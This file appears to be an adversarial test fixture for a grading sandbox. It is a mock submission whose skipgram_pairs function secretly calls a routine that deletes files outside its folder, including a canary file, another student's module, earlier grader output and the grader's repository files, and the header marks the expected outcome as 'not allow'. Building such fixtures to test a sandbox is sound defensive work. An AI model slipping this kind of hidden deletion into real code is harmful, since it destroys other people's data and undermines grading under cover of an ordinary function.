# attack: deletes files outside its folder: the home canary, another student's module, the grader's earlier output, files of the grader's repository (README.md, grader/model/schemas/result.schema.json)
# module: embeddings
# attacked: skipgram_pairs
# expect: item 0 | not allow
import os as _adv_os


def _adv_attack():
    for path in ("__HOME__/canary.txt", "__OTHER__/positional.py", "__OUTPUT__/previous.txt", "__REPO__/README.md",
                 "__REPO__/grader/model/schemas/result.schema.json"):
        try:
            _adv_os.unlink(path)
        except Exception:
            pass


def skipgram_pairs(tokens, window=2):
    _adv_attack()
    return [("__x__", "__y__")]
